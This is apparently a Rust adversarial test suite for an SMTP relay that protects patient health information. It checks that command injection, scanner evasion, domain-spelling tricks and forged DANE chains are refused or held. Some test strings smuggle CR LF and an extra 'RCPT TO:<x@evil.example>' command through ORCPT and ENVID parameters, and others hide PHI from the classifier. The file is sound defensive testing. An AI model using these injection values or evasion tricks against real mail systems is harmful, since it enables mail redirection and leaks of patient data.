//! The adversarial suite of the fail-closed review: each test tries to get PHI
//! out unprotected, or to steer the relay with client input, and checks that
//! nothing reaches the destination in clear (held, deferred or refused).

use std::time::Duration;

use phirelay::store::RecipientState;

use crate::common::client::{Client, queue_id};
use crate::common::delivery::{World, mx_zone};
use crate::common::sink::SinkOpts;

const WAIT: Duration = Duration::from_secs(15);

/// Item 2: an ORCPT whose decoded value holds CR LF and a `;` once reached the
/// next hop as a separate RCPT line. Now it is refused at RCPT with 501 5.5.4,
/// and so is an ENVID with control characters; a clean ORCPT still passes,
/// re-encoded, and the next hop sees exactly the one recipient.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn orcpt_and_envid_cannot_inject_commands() {
    let w = World::start(vec![mx_zone("partner.example", 2)], "", "").await;
    let mx = w.sink(2, SinkOpts::default()).await;
    let mut c = Client::connect(w.relay.addr).await;
    c.hello().await;
    c.cmd("MAIL FROM:<a@clinic.example> ENVID=x+0D+0ARSET", 501)
        .await;
    c.cmd("MAIL FROM:<a@clinic.example> ENVID=env-1", 250).await;
    let hostile = "RCPT TO:<b@partner.example> NOTIFY=FAILURE \
        ORCPT=rfc822;a+0D+0ARCPT+20TO:<x@evil.example>+0D+0ANOOP;b";
    let r = c.cmd(hostile, 501).await;
    assert!(r.text().contains("5.5.4"), "{}", r.text());
    c.cmd(
        "RCPT TO:<b@partner.example> ORCPT=rfc822;a+3Bb@partner.example",
        501,
    )
    .await;
    c.cmd(
        "RCPT TO:<b@partner.example> NOTIFY=FAILURE ORCPT=rfc822;orig+2Bx@partner.example",
        250,
    )
    .await;
    c.cmd("DATA", 354).await;
    c.send(b"Subject: hi\r\n\r\nno phi\r\n.\r\n").await;
    let id = queue_id(&c.reply().await);
    assert_eq!(
        w.wait_final(&id, WAIT).await,
        vec![RecipientState::Delivered]
    );
    let m = &mx.messages()[0];
    assert_eq!(m.rcpts, vec!["b@partner.example"]);
    assert!(
        m.rcpt_params[0].contains("ORCPT=rfc822;orig+2Bx@partner.example"),
        "{:?}",
        m.rcpt_params
    );
    assert!(m.mail_params.contains("ENVID=env-1"), "{}", m.mail_params);
}

/// A PHI-bearing message to a destination without STARTTLS must be held (the
/// `tls-required` fallback is the portal), never delivered in clear.
async fn assert_held_not_sent(body: &[u8]) {
    let w = World::start(vec![mx_zone("notls.test", 2)], "", "").await;
    let mx = w.sink(2, SinkOpts::default()).await;
    let id = w.send("dr@clinic.example", &["x@notls.test"], body).await;
    let deadline = tokio::time::Instant::now() + WAIT;
    loop {
        let s = w.relay.store.recipients(&id).await.unwrap()[0].state;
        if s == RecipientState::Held {
            break;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "state {s:?}, not held"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(mx.received().is_empty(), "PHI went out in clear");
    let classified = w
        .events(&id)
        .await
        .into_iter()
        .find(|e| e.0 == "classified")
        .expect("classified event");
    assert_eq!(classified.2["phi"], true, "{}", classified.2);
}

fn base64_lines(bytes: &[u8]) -> String {
    use base64::Engine;
    let b = base64::engine::general_purpose::STANDARD.encode(bytes);
    b.as_bytes()
        .chunks(76)
        .map(|c| String::from_utf8_lossy(c).into_owned() + "\r\n")
        .collect()
}

/// Item 1: an SSN after the first MiB of text (past the scan cap) counts.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn text_past_the_scan_cap_is_unscanned_and_protected() {
    let line = "lorem ipsum dolor sit amet ".repeat(30);
    let filler = format!("{}\r\n", line.trim_end()).repeat(1_500); // ~1.2 MB
    let body = format!("Subject: notes\r\n\r\n{filler}Patient SSN: 512-44-7360\r\n");
    assert_held_not_sent(body.as_bytes()).await;
}

/// Item 1: a binary attachment no extractor reads (an .xlsx here: a ZIP the
/// classifier cannot open) is unscanned, so protected.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unreadable_attachment_is_unscanned_and_protected() {
    let zip_like: Vec<u8> = b"PK\x03\x04"
        .iter()
        .copied()
        .chain((0..4000u32).map(|i| (i * 7919 % 251) as u8))
        .collect();
    let body = format!(
        "Subject: the list\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
         --b1\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
         --b1\r\nContent-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n\
         Content-Disposition: attachment; filename=\"patients.xlsx\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}--b1--\r\n",
        base64_lines(&zip_like)
    );
    assert_held_not_sent(body.as_bytes()).await;
}

/// Item 1: forwarded messages nested past the limit are not read: unscanned.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deeply_forwarded_message_is_unscanned_and_protected() {
    let mut inner = "Subject: innermost\r\n\r\nPatient SSN: 512-44-7360\r\n".to_string();
    for i in 0..5 {
        inner = format!(
            "Subject: fwd {i}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"n{i}\"\r\n\r\n\
             --n{i}\r\nContent-Type: text/plain\r\n\r\nforwarding\r\n\
             --n{i}\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n--n{i}--\r\n"
        );
    }
    assert_held_not_sent(inner.as_bytes()).await;
}

/// Item 1: a text part that decodes to NUL bytes (UTF-16 without a BOM) is not
/// text the detectors can read.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn undecodable_text_part_is_unscanned_and_protected() {
    let utf16: Vec<u8> = "Patient SSN: 512-44-7360"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    let body = format!(
        "Subject: note\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}",
        base64_lines(&utf16)
    );
    assert_held_not_sent(body.as_bytes()).await;
}

/// Item 4: subject-tag stripping once sliced header lines by byte offset and
/// panicked inside "José" (the session died, the client retried for ever and
/// the panic text with the address went to the log). Now the message is
/// accepted, tagged as PHI, and the tag is stripped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn multibyte_headers_with_a_subject_tag_are_accepted() {
    let w = World::start(vec![mx_zone("notls.test", 2)], "", "").await;
    let _mx = w.sink(2, SinkOpts::default()).await;
    let body = "To: José Núñez <x@notls.test>\r\nSubject: [secure] résultats\r\n\r\nhello\r\n";
    let id = w
        .send("dr@clinic.example", &["x@notls.test"], body.as_bytes())
        .await;
    let stored = String::from_utf8(w.relay.content(&id).await).unwrap();
    assert!(stored.contains("Subject: résultats\r\n"), "{stored}");
}

/// Item 8: mail-parser keeps the last Subject while mail clients show the
/// first; PHI in the first one is found (and PHI in a subject is refused).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn phi_in_a_first_subject_is_found() {
    let w = World::start(vec![mx_zone("notls.test", 2)], "", "").await;
    let mx = w.sink(2, SinkOpts::default()).await;
    let mut c = Client::connect(w.relay.addr).await;
    c.hello().await;
    let r = c
        .send_mail(
            "dr@clinic.example",
            &["x@notls.test"],
            b"Subject: SSN 512-44-7360 results\r\nSubject: hello\r\n\r\nsee you\r\n",
        )
        .await;
    assert_eq!(r.code, 550, "{r:?}");
    // A subject tag in the first Subject triggers too.
    let id = w
        .send(
            "dr@clinic.example",
            &["x@notls.test"],
            b"Subject: [secure] results\r\nSubject: hello\r\n\r\nsee you\r\n",
        )
        .await;
    let classified = w
        .events(&id)
        .await
        .into_iter()
        .find(|e| e.0 == "classified")
        .unwrap();
    assert_eq!(classified.2["phi"], true);
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert!(mx.received().is_empty());
}

/// Item 9: a trailing dot, upper case or a Unicode spelling of a domain once
/// escaped the consumer-domain list (and rules and TLS levels). Domains are
/// normalised at RCPT, so `p@GMAIL.com.` is `p@gmail.com`: PHI goes to the portal.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn domain_spellings_do_not_escape_the_consumer_list() {
    let gmail = crate::common::dns::Zone::new("gmail.com.")
        .mx("gmail.com.", 10, "mx.gmail.com.")
        .a("mx.gmail.com.", std::net::Ipv4Addr::new(127, 0, 0, 4));
    let w = World::start(vec![gmail], "", "").await;
    let consumer = w.sink(4, SinkOpts::default()).await;
    let id = w
        .send(
            "dr@clinic.example",
            &["p@GMAIL.com."],
            b"Subject: [secure] results\r\n\r\nplease log in\r\n",
        )
        .await;
    let r = w.relay.store.recipients(&id).await.unwrap();
    assert_eq!(r[0].address, "p@gmail.com");
    assert_eq!(r[0].decision.as_str(), "portal");
    assert_eq!(r[0].state, RecipientState::Held);
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(consumer.received().is_empty());
}

/// Item 6: DANE from a forged alias. `_25._tcp.mx.alias.test` (an unsigned
/// zone) is a CNAME to a name in a signed zone that holds the attacker's TLSA.
/// The TLSA RRset alone validates, but the chain does not: not DANE, so PHI
/// (which needs verified TLS) is held, not delivered "verified".
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tlsa_through_an_unsigned_cname_is_not_dane() {
    use hickory_proto::rr::rdata::CNAME;
    use hickory_proto::rr::{Name, RData};
    use phirelay::transport::dane::tlsa_for;
    let leaf = crate::common::certs::self_signed(&["mx.alias.test"]);
    let rec = tlsa_for(&leaf.cert_der, 3, 1, 1);
    let target = Name::from_ascii("_25._tcp.mx.signed.test.").unwrap();
    let alias = mx_zone("alias.test", 2).record("_25._tcp.mx.alias.test.", RData::CNAME(CNAME(target)));
    let signed = crate::common::dns::Zone::new("signed.test.")
        .a("signed.test.", std::net::Ipv4Addr::new(127, 0, 0, 9))
        .tlsa("_25._tcp.mx.signed.test.", rec.usage, rec.selector, rec.matching, rec.data)
        .signed();
    let w = World::start(vec![alias, signed], "", "").await;
    let mx = w.sink(2, SinkOpts::with_tls(leaf.server_config())).await;
    let body = b"Subject: results\r\n\r\nPatient SSN: 512-44-7360\r\n";
    let id = w.send("dr@clinic.example", &["x@alias.test"], body).await;
    let deadline = tokio::time::Instant::now() + WAIT;
    loop {
        let s = w.relay.store.recipients(&id).await.unwrap()[0].state;
        assert_ne!(s, RecipientState::Delivered, "PHI delivered on a forged DANE chain");
        if s == RecipientState::Held {
            break;
        }
        assert!(tokio::time::Instant::now() < deadline, "state {s:?}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(mx.received().is_empty());
}
